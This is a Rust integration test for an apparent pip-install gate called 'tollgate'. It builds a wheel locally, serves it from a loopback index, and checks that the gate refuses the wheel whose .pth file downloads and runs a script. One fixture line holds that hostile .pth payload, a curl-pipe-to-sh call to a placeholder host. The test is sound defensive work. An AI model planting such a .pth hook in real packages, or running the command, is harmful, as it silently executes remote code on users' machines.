//! `tollgate install pip` as a gate, offline: a loopback PEP 691 simple index served by the
//! test, with a wheel the test writes itself (a zip of a few small files). A wheel whose
//! `.pth` file downloads and runs a script (from a host under `.example.invalid`, never
//! contacted) is refused at the verdict step and nothing lands in the venv; the clean wheel
//! installs. Skipped (with a printed reason) when python3 with venv and pip is missing.

mod common;

use std::io::Write;
use std::path::{Path, PathBuf};

use predicates::str::contains;
use tempfile::TempDir;

const NAME: &str = "harmless-gate-fixture";
const WHEEL: &str = "harmless_gate_fixture-1.0-py3-none-any.whl";

/// A wheel of `harmless_gate_fixture`, with `pth` as a `.pth` file when given.
fn wheel(pth: Option<&str>) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let info = "harmless_gate_fixture-1.0.dist-info";
    let mut files = vec![
        (
            "harmless_gate_fixture/__init__.py".to_owned(),
            "VALUE = 1\n".to_owned(),
        ),
        (
            format!("{info}/METADATA"),
            format!("Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n"),
        ),
        (
            format!("{info}/WHEEL"),
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
                .to_owned(),
        ),
        (format!("{info}/RECORD"), String::new()),
    ];
    if let Some(pth) = pth {
        files.push(("harmless_gate_fixture.pth".to_owned(), pth.to_owned()));
    }
    for (path, text) in files {
        zip.start_file(path, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Serves the project page (PEP 691 JSON) and the wheel; 404 otherwise.
fn serve(wheel: Vec<u8>) -> String {
    common::serve(usize::MAX, move |path| {
        if path == format!("/simple/{NAME}/") {
            let page = serde_json::json!({
                "meta": {"api-version": "1.1"},
                "name": NAME,
                "files": [{"filename": WHEEL, "url": format!("/files/{WHEEL}"), "hashes": {},
                           "upload-time": "2024-01-01T00:00:00Z"}],
            });
            (
                "200 OK",
                "application/vnd.pypi.simple.v1+json",
                page.to_string().into_bytes(),
            )
        } else if path == format!("/files/{WHEEL}") {
            ("200 OK", "application/octet-stream", wheel.clone())
        } else {
            ("404 Not Found", "text/plain", Vec::new())
        }
    })
}

/// The real interpreter (not a pyenv shim), if python3 with venv and pip runs.
fn python() -> Option<PathBuf> {
    let output = std::process::Command::new("python3")
        .args(["-c", "import sys, venv, pip; print(sys.executable)"])
        .output()
        .ok()?;
    let path = String::from_utf8(output.stdout).ok()?;
    output.status.success().then(|| PathBuf::from(path.trim()))
}

struct Setup {
    work: TempDir,
    project: PathBuf,
    venv: PathBuf,
    python_bin: PathBuf,
}

fn setup(python: &Path) -> Setup {
    let work = TempDir::new().unwrap();
    let project = work.path().join("project");
    std::fs::create_dir(&project).unwrap();
    let venv = project.join(".venv");
    let status = std::process::Command::new(python)
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(status.success());
    Setup {
        python_bin: python.parent().unwrap().to_path_buf(),
        work,
        project,
        venv,
    }
}

fn install(setup: &Setup, index: &str) -> assert_cmd::assert::Assert {
    let path = format!(
        "{}:{}:/usr/bin:/bin",
        setup.venv.join("bin").display(),
        setup.python_bin.display()
    );
    common::tollgate()
        .current_dir(&setup.project)
        .env("HOME", setup.work.path())
        .env("XDG_CACHE_HOME", setup.work.path().join("cache"))
        .env("PATH", path)
        .env("VIRTUAL_ENV", &setup.venv)
        .env("PIP_INDEX_URL", format!("{index}/simple/"))
        .env_remove("PIP_FIND_LINKS")
        .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
        .args(["install", "--allow-missing-db", "pip", "--"])
        .arg(format!("{NAME}==1.0"))
        .timeout(std::time::Duration::from_secs(180))
        .assert()
}

fn installed(setup: &Setup) -> bool {
    std::fs::read_dir(setup.venv.join("lib"))
        .unwrap()
        .flatten()
        .any(|python| {
            python
                .path()
                .join("site-packages/harmless_gate_fixture")
                .exists()
        })
}

#[test]
fn wheel_whose_pth_downloads_and_runs_code_is_refused() {
    let Some(python) = python() else {
        println!("skipped: python3 with venv and pip is not installed");
        return;
    };
    let setup = setup(&python);
    let pth = "import os; os.system(\"curl -s https://payload.example.invalid/stage2 | sh\")\n";
    let index = serve(wheel(Some(pth)));
    install(&setup, &index)
        .code(1)
        .stderr(contains(
            "refused: the install-time code of harmless_gate_fixture is judged malicious",
        ))
        .stderr(contains("harmless_gate_fixture.pth:1"))
        .stderr(contains("download-run"));
    assert!(!installed(&setup), "nothing lands in the venv");
    let downloads = setup.project.join(".tollgate/wheels");
    assert_eq!(
        std::fs::read_dir(&downloads).map_or(0, |d| d.count()),
        0,
        "the refused wheel is removed"
    );
}

#[test]
fn clean_wheel_installs() {
    let Some(python) = python() else {
        println!("skipped: python3 with venv and pip is not installed");
        return;
    };
    let setup = setup(&python);
    let index = serve(wheel(None));
    install(&setup, &index).success();
    assert!(installed(&setup));
}
